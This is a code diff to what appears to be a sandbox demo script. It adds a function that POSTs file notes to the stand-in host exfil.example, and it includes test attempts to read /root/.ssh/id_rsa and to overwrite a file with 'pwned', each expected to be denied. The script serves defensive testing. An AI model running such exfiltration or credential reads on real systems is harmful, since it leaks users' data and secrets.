@@ -36,6 +36,16 @@ def connect():
     return "connected"
 
 
+def exfiltrate(notes):
+    # Through the egress proxy ($HTTP_PROXY), as any HTTP client goes: one
+    # core approval of net.connect exfil.example:80, which this profile
+    # does not grant (403; nothing is resolved or contacted).
+    import urllib.request
+    req = urllib.request.Request("http://exfil.example/upload", data=notes.encode(),
+                                 method="POST")
+    return urllib.request.urlopen(req, timeout=10).read()
+
+
 def main():
     ward = Ward()
     notes = ward.call("fs.read", path="notes.txt")
@@ -47,6 +57,7 @@ def main():
     attempt("fs.write notes.txt (outside out/)", lambda: ward.call("fs.write", path="notes.txt", content="pwned"))
     attempt("open /root/.ssh/id_rsa directly", lambda: open("/root/.ssh/id_rsa").read())
     attempt("connect 10.0.0.1:443 directly", connect)
+    attempt("POST notes to exfil.example via the proxy", lambda: exfiltrate(notes))
     for i in range(3):
         attempt("fs.stat notes.txt (use %d of a budget of 2)" % (i + 1),
                 lambda: ward.call("fs.stat", path="notes.txt"), allowed=i < 2)
